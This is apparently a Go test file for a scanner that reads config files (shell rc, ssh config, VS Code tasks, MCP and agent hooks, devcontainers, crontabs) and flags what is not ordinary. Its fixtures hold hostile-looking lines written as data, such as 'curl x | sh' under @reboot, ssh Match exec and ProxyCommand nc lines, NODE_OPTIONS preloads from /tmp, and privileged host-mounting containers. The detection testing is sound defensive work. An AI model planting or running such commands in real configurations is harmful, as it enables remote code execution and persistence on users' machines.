package facts

import (
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestReadConfigFileFindsTheCommandsAFileStoresAndWhatIsNotOrdinary(t *testing.T) {
	tests := []struct {
		name, path, content string
		kind                string
		commands            []string // each must be among the file's commands
		ordinary            bool
	}{
		{"an envrc is shell, direnv's functions as no-ops", "proj/.envrc", "PATH_add bin\nexport FOO=1\n", ConfigDirenv, []string{": bin\nexport FOO=1\n"}, true},
		{"an envrc's source_url fetches and runs", "proj/.envrc", "source_url https://x.example/a.sh sha256-x", ConfigDirenv, []string{"curl -fsSL https://x.example/a.sh sha256-x | sh"}, true},
		{"a PATH line of the user's own folder", "~/.zshrc", `export PATH="$HOME/.local/bin:$PATH"`, ConfigShellRC, nil, true},
		{"a zsh path array of homebrew's folder", "~/.zshrc", "path=(/opt/homebrew/bin $path)", ConfigShellRC, nil, true},
		{"a PATH line through a temporary folder", "~/.bashrc", `export PATH="/tmp/x:$PATH"`, ConfigShellRC, nil, false},
		{"a PATH line through the working folder", "~/.bashrc", `export PATH=".:$PATH"`, ConfigShellRC, nil, false},
		{"a PATH line with a substitution", "~/.bashrc", `export PATH="$(curl x):$PATH"`, ConfigShellRC, nil, false},
		{"an alias's body is a command", "~/.bashrc", `alias ll='ls -la'`, ConfigShellRC, []string{"ls -la"}, true},
		{"direnv's hook", "~/.zshrc", `eval "$(direnv hook zsh)"`, ConfigShellRC, nil, true},
		{"an unknown program's hook", "~/.zshrc", `eval "$(/tmp/x init zsh)"`, ConfigShellRC, nil, false},
		{"a variable that loads code", "~/.zshenv", "export NODE_OPTIONS='--require /tmp/x.js'", ConfigShellRC, nil, false},
		{"a source line", "~/.profile", "source ~/.secret-init", ConfigShellRC, nil, false},
		{"ssh hosts, users and own keys", "~/.ssh/config", "Host gh\n  HostName github.com\n  User git\n  IdentityFile ~/.ssh/id_ed25519\n  IdentitiesOnly yes\n", ConfigSSH, nil, true},
		{"ssh ProxyJump is routing", "~/.ssh/config", "Host db\n  ProxyJump bastion\n", ConfigSSH, nil, true},
		{"ssh ProxyCommand runs a command", "~/.ssh/config", "Host *\n  ProxyCommand sh -c 'nc %h %p'\n", ConfigSSH, []string{"sh -c 'nc %h %p'"}, false},
		{"ssh LocalCommand, with =", "~/.ssh/config", "PermitLocalCommand=yes\nLocalCommand=id\n", ConfigSSH, []string{"id"}, false},
		{"ssh Match exec", "~/.ssh/config", `Match exec "curl -s x.example | sh"` + "\n", ConfigSSH, []string{"curl -s x.example | sh"}, false},
		{"an ssh key outside the ssh folder", "~/.ssh/config", "Host x\n  IdentityFile /tmp/k\n", ConfigSSH, nil, false},
		{"agent forwarding", "~/.ssh/config", "Host *\n  ForwardAgent yes\n", ConfigSSH, nil, false},
		{"an included file", "~/.ssh/config", "Include /tmp/more\n", ConfigSSH, nil, false},
		{"a keyword unknown", "~/.ssh/config.d/work", "PKCS11Provider /tmp/x.so\n", ConfigSSH, nil, false},
		{"known hosts' keys", "~/.ssh/known_hosts", "github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n", ConfigKnownHosts, nil, true},
		{"a certificate authority for every host", "~/.ssh/known_hosts", "@cert-authority * ssh-ed25519 AAAA\n", ConfigKnownHosts, nil, false},
		{"editor settings", ".vscode/settings.json", "// comment\n{\"editor.tabSize\": 2, \"[go]\": {\"editor.formatOnSave\": true},}\n", ConfigEditor, nil, true},
		{"a fragment of editor settings (Edit)", ".vscode/settings.json", `"editor.rulers": [100],`, ConfigEditor, nil, true},
		{"editor settings that name a program", ".vscode/settings.json", `{"python.defaultInterpreterPath": "/tmp/py"}`, ConfigEditor, nil, false},
		{"editor settings that approve an agent's tools", ".vscode/settings.json", `{"chat.tools.autoApprove": true}`, ConfigEditor, nil, false},
		{"a terminal's environment", ".vscode/settings.json", `{"terminal.integrated.env.osx": {"X": "1"}}`, ConfigEditor, nil, false},
		{"a shell task", ".vscode/tasks.json", `{"tasks": [{"label": "b", "type": "shell", "command": "go build", "args": ["./..."]}]}`, ConfigEditorTasks, []string{"go build ./..."}, true},
		{"a process task with its environment", ".vscode/tasks.json", `{"tasks": [{"type": "process", "command": "node", "args": ["${workspaceFolder}/x.js"], "options": {"env": {"NODE_OPTIONS": "--require /tmp/h.js"}}}]}`, ConfigEditorTasks, []string{"NODE_OPTIONS='--require /tmp/h.js' node ./x.js"}, true},
		{"an npm task", ".vscode/tasks.json", `{"tasks": [{"type": "npm", "script": "watch"}]}`, ConfigEditorTasks, []string{"npm run watch"}, true},
		{"a task's own shell", ".vscode/tasks.json", `{"tasks": [{"command": "x", "options": {"shell": {"executable": "/tmp/sh"}}}]}`, ConfigEditorTasks, []string{"x"}, false},
		{"a platform's task", ".vscode/tasks.json", `{"tasks": [{"command": "make", "osx": {"command": "curl x | sh"}}]}`, ConfigEditorTasks, []string{"make", "curl x | sh"}, true},
		{"a launch runtime", ".vscode/launch.json", `{"configurations": [{"type": "node", "runtimeExecutable": "npm", "runtimeArgs": ["run", "dev"], "program": "${workspaceFolder}/a.js"}]}`, ConfigEditorLaunch, []string{"npm run dev"}, true},
		{"another agent's MCP server", ".cursor/mcp.json", `{"mcpServers": {"db": {"command": "npx", "args": ["-y", "db-mcp"]}}}`, ConfigAgentMCP, []string{"npx -y db-mcp"}, false},
		{"VS Code's MCP servers", ".vscode/mcp.json", `{"servers": {"x": {"type": "stdio", "command": "bash", "args": ["-c", "id"]}}}`, ConfigAgentMCP, []string{"bash -c id"}, false},
		{"an agent's hooks", ".cursor/hooks.json", `{"version": 1, "hooks": {"beforeShellExecution": [{"command": "./audit.sh"}]}}`, ConfigAgentHooks, []string{"./audit.sh"}, false},
		{"an agent's rules are prose", "proj/.cursor/rules/style.mdc", "Use tabs.", ConfigAgentRules, nil, true},
		{"a dev container's commands", ".devcontainer/devcontainer.json", `{"postCreateCommand": "npm ci", "initializeCommand": ["sh", "-c", "id"], "postStartCommand": {"a": "make", "b": ["echo", "hi"]}}`, ConfigDevcontainer, []string{"npm ci", "sh -c id", "make", "echo hi"}, true},
		{"a dev container given the host", ".devcontainer.json", `{"runArgs": ["--pid=host"], "privileged": true, "mounts": ["source=/,target=/host,type=bind"]}`, ConfigDevcontainer, []string{"docker run '--pid=host' --privileged --mount 'source=/,target=/host,type=bind' devcontainer"}, true},
		{"a desktop entry's Exec", "~/.local/share/applications/x.desktop", "[Desktop Entry]\nExec=sh -c 'curl x|sh' %U\n", ConfigDesktopEntry, []string{"sh -c 'curl x|sh'"}, true},
		{"a systemd unit's Exec lines", "deploy/x.service", "[Service]\nExecStartPre=-/bin/mkdir -p /x\nExecStart=@/usr/bin/python3 app.py\n", ConfigSystemdUnit, []string{"/bin/mkdir -p /x", "/usr/bin/python3 app.py"}, true},
		{"a crontab's commands", "deploy/app.crontab", "SHELL=/bin/sh\n*/5 * * * * /usr/bin/backup --all\n@reboot curl x | sh\n", ConfigCrontab, []string{"/usr/bin/backup --all", "curl x | sh"}, true},
		{"the system's crontab names a user", "/etc/cron.d/x", "* * * * * root id\n", ConfigCrontab, []string{"id"}, true},
		{"a pod spec", "k8s/pod.yaml", "apiVersion: v1\nkind: Pod\n", ConfigPodSpec, nil, true},
		{"a compose file", "compose.yaml", "services: {}\n", ConfigCompose, nil, true},
		{"a husky hook is a script", "web/.husky/pre-commit", "npx lint-staged\n", ConfigHookScript, []string{"npx lint-staged\n"}, true},
		{"husky's own helper is not a hook", "web/.husky/_/husky.sh", "x", "", nil, true},
		{"a local pre-commit hook's entry", ".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: ./scripts/check.sh --fast\n    language: system\n", ConfigPreCommit, []string{"./scripts/check.sh --fast"}, true},
		{"npm's node options", ".npmrc", "registry=https://registry.npmjs.org/\nnode-options=--require /tmp/h.js\n", ConfigPackageRC, []string{"NODE_OPTIONS='--require /tmp/h.js' :"}, true},
		{"yarn's own program", ".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n", ConfigPackageRC, []string{".yarn/releases/yarn-4.1.0.cjs"}, true},
		{"settings that do not parse", ".vscode/settings.json", "{nope", ConfigUnparsed, nil, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, ok := ReadConfigFile(tt.path, tt.content)
			if tt.kind == "" {
				if ok {
					t.Fatalf("ReadConfigFile(%q) = %+v, want no kind", tt.path, f)
				}
				return
			}
			if !ok {
				t.Fatalf("ReadConfigFile(%q) knows no kind, want %s", tt.path, tt.kind)
			}
			if f.Kind != tt.kind {
				t.Errorf("kind %q, want %q", f.Kind, tt.kind)
			}
			for _, c := range tt.commands {
				if !slices.Contains(f.Commands, c) {
					t.Errorf("commands %q lack %q", f.Commands, c)
				}
			}
			if f.Ordinary() != tt.ordinary {
				t.Errorf("ordinary = %v (unordinary %q), want %v", f.Ordinary(), f.Unordinary, tt.ordinary)
			}
		})
	}
}

func TestReadConfigFileKnowsNoKindForOrdinaryProjectFiles(t *testing.T) {
	for _, p := range []string{"src/main.go", "README.md", "docs/zshrc-tips.md", "config/app.yaml", ".vscode/notes.txt", "service.go"} {
		if f, ok := ReadConfigFile(p, "x: 1\n"); ok {
			t.Errorf("ReadConfigFile(%q) = %+v, want no kind", p, f)
		}
	}
}

func TestParseJSONCKeepsCommentMarksInsideStrings(t *testing.T) {
	v, ok := ParseJSONC(`{"url": "http://x.example/*a*/", /* c */ "b": [1, 2,], // d
	}`)
	if !ok || v["url"] != "http://x.example/*a*/" || len(asSlice(v["b"])) != 2 {
		t.Fatalf("ParseJSONC = %v, %v", v, ok)
	}
}

func FuzzReadConfigFile(f *testing.F) {
	for _, s := range []struct{ p, c string }{
		{"~/.ssh/config", "Host x\n ProxyCommand nc %h %p\nMatch exec \"x\""},
		{".vscode/tasks.json", `{"tasks":[{"command":["a","b"],"args":[{"value":"c"}],"osx":{"command":"d"}}]}`},
		{".devcontainer/devcontainer.json", `{"postCreateCommand":{"a":["x"]},"mounts":[{"source":"/"}], /* x */}`},
		{"~/.zshrc", "alias a='b'\npath+=(~/bin)\neval \"$(direnv hook zsh)\""},
		{"x.crontab", "@reboot a\n* * * * * b"},
		{"proj/.envrc", "source_up\nPATH_add bin"},
		{"k.yaml", "apiVersion: v1\nkind: Pod"},
	} {
		f.Add(s.p, s.c)
	}
	f.Fuzz(func(t *testing.T, p, content string) {
		cf, ok := ReadConfigFile(p, content)
		if !ok {
			return
		}
		if cf.Kind == "" {
			t.Fatalf("a file of a known kind has no kind: %q", p)
		}
		for _, c := range cf.Commands {
			if utf8.ValidString(content) && !utf8.ValidString(c) {
				t.Fatalf("a command of valid text is not valid text: %q", c)
			}
			if len(c) > 4*len(content)+64 && !strings.Contains(content, "source_url") {
				t.Fatalf("a command (%d bytes) grew far past the file (%d bytes)", len(c), len(content))
			}
		}
	})
}
